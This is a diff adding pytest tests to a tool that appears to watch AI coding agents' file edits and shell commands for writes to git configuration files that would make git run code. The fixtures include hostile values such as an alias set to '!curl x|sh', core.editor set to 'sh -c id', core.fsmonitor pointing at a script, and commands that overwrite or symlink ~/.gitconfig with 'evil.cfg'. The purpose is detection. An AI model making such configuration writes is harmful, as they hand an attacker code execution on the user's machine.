@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import os
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from hookd.enrich.gitconfig_text import executing_keys, is_git_config
+from hookd.enrich.shell.build import analyse_shell as shell_effects
 from tests.unit.enrich.test_tool_effects import HOME, enriched
 
 
@@ -80,3 +83,119 @@ def test_a_line_of_the_largest_size_read_with_long_blank_runs_is_read_in_one_pas
 ) -> None:
     assert len(text) <= 1 << 20
     assert executing_keys(text) == keys
+
+
+# --- a write whose resulting text cannot be judged whole: code git may run, not known (asked)
+
+GITCONFIG = "[core]\n\teditor = vim\n[alias]\n\tlg = log --graph\n"
+
+
+def _config_effects(event: Any) -> list[tuple[str, str, str, bool]]:
+    return [
+        (e["op"], str(e.get("key", "")), str(e.get("config", "")), e["known"])
+        for e in event.facts["effects"]
+        if e.get("key") or e.get("config") or e["op"] == "exec"
+    ]
+
+
+@pytest.fixture
+def config_file(tmp_path: Path) -> Path:
+    path = tmp_path / "home" / ".gitconfig"
+    path.parent.mkdir()
+    path.write_text(GITCONFIG)
+    return path
+
+
+@pytest.mark.parametrize(
+    ("tool", "tool_input", "key"),
+    [
+        ("Edit", {"old_string": "vim", "new_string": "sh -c id"}, "core.editor"),
+        ("Edit", {"old_string": "log --graph", "new_string": "!curl x|sh"}, "alias.lg"),
+        ("Edit", {"old_string": "[alias]", "new_string": "[core]", "replace_all": True}, "core.lg"),
+        ("MultiEdit", {"edits": [{"old_string": "vim", "new_string": "./x.sh"}]}, "core.editor"),
+        ("mcp__filesystem__edit_file", {"edits": [{"oldText": "vim", "newText": "./x.sh"}]}, "core.editor"),
+    ],
+)
+def test_an_edit_is_judged_on_the_file_as_it_leaves_it(
+    config_file: Path, tmp_path: Path, tool: str, tool_input: dict[str, Any], key: str
+) -> None:
+    proj = tmp_path / "proj"
+    proj.mkdir()
+    arg = "path" if tool.startswith("mcp__") else "file_path"
+    keyed = _config_effects(enriched("claude", tool, {arg: str(config_file), **tool_input}, proj))
+    assert ("write", key, "", True) in keyed or key == "core.lg"  # `lg` is no executing key of core
+    if key == "core.lg":
+        assert keyed == []
+    plain = {arg: str(config_file), **({"edits": [{"old_string": "vim", "new_string": "nano"}]} if "edits" in tool_input
+                                       else {"old_string": "vim", "new_string": "nano"})}  # fmt: skip
+    if tool.startswith("mcp__"):
+        plain = {arg: str(config_file), "edits": [{"oldText": "vim", "newText": "nano"}]}
+    assert _config_effects(enriched("claude", tool, plain, proj)) == []
+
+
+def test_an_edit_of_a_configuration_that_cannot_be_read_is_code_not_known(tmp_path: Path) -> None:
+    proj = tmp_path / "proj"
+    proj.mkdir()
+    fifo, binary = tmp_path / "fifo" / ".gitconfig", tmp_path / "bin" / ".gitconfig"
+    fifo.parent.mkdir()
+    os.mkfifo(fifo)  # never opened for reading: the daemon would wait on it
+    binary.parent.mkdir()
+    binary.write_bytes(b"[core]\n\teditor = \xff\n")
+    for path in (fifo, binary):
+        edit = {"file_path": str(path), "old_string": "vim", "new_string": "nano"}
+        assert _config_effects(enriched("claude", "Edit", edit, proj)) == [("exec", "", str(path), False)]
+    missing = {"file_path": str(tmp_path / ".gitconfig"), "old_string": "vim", "new_string": "nano"}
+    assert _config_effects(enriched("claude", "Edit", missing, proj)) == []  # the edit fails: nothing changes
+
+
+@pytest.mark.parametrize(
+    ("tool", "tool_input"),
+    [
+        ("mcp__filesystem__move_file", {"source": "{proj}/evil.cfg", "destination": "{config}"}),
+        ("mcp__fs__copy_file", {"source": "{proj}/evil.cfg", "destination": "{config}"}),
+        ("mcp__fs__append_file", {"path": "{config}", "content": "[user]\n\tname = A\n"}),  # no table: not whole
+        ("mcp__fs__insert_text", {"path": "{config}", "line": "3", "text": "[core]"}),
+    ],
+)
+def test_a_move_copy_or_unknown_write_onto_a_configuration_is_code_not_known(
+    config_file: Path, tmp_path: Path, tool: str, tool_input: dict[str, str]
+) -> None:
+    proj = tmp_path / "proj"
+    proj.mkdir()
+    (proj / "evil.cfg").write_text("[core]\n\tfsmonitor = ./x.sh\n")
+    filled = {k: v.format(proj=proj, config=config_file) for k, v in tool_input.items()}
+    assert ("exec", "", str(config_file), False) in _config_effects(enriched("claude", tool, filled, proj))
+
+
+def test_a_write_of_the_whole_text_is_judged_by_its_keys_only(config_file: Path, tmp_path: Path) -> None:
+    proj = tmp_path / "proj"
+    proj.mkdir()
+    write = {"file_path": str(config_file), "content": "[user]\n\tname = A\n"}
+    assert _config_effects(enriched("claude", "Write", write, proj)) == []
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "printf '[core]\\n\\tfsmonitor = evil\\n' > ~/.gitconfig",
+        "cp evil.cfg ~/.gitconfig",
+        "mv evil.cfg ~/.config/git/config",
+        "ln -sf evil.cfg ~/.gitconfig",
+        "sed -i s/vim/nano/ ~/.gitconfig",
+        "echo x >> .git/config",
+        "XDG_CONFIG_HOME=/home/u/cfg; cat evil.cfg > $XDG_CONFIG_HOME/git/config",
+        "cat evil.cfg > /srv/repo.git/config",  # a bare repository's
+    ],
+)
+def test_a_shell_write_into_a_configuration_is_code_not_known(tmp_path: Path, command: str) -> None:
+    found = shell_effects(command, home="/home/u", base_dir=str(tmp_path), project_dir=str(tmp_path))[1]
+    unknown = [e for e in found if e["op"] == "exec" and e.get("config")]
+    assert len(unknown) == 1 and unknown[0]["known"] is False and is_git_config(str(unknown[0]["config"]))
+
+
+@pytest.mark.parametrize(
+    "command", ["git config --global user.name x", "git commit -qm x", "git add .", "git init", "echo x > notes"]
+)
+def test_git_config_of_one_key_and_everyday_git_are_no_unknown_code(tmp_path: Path, command: str) -> None:
+    found = shell_effects(command, home="/home/u", base_dir=str(tmp_path), project_dir=str(tmp_path))[1]
+    assert [e for e in found if e["op"] == "exec"] == []
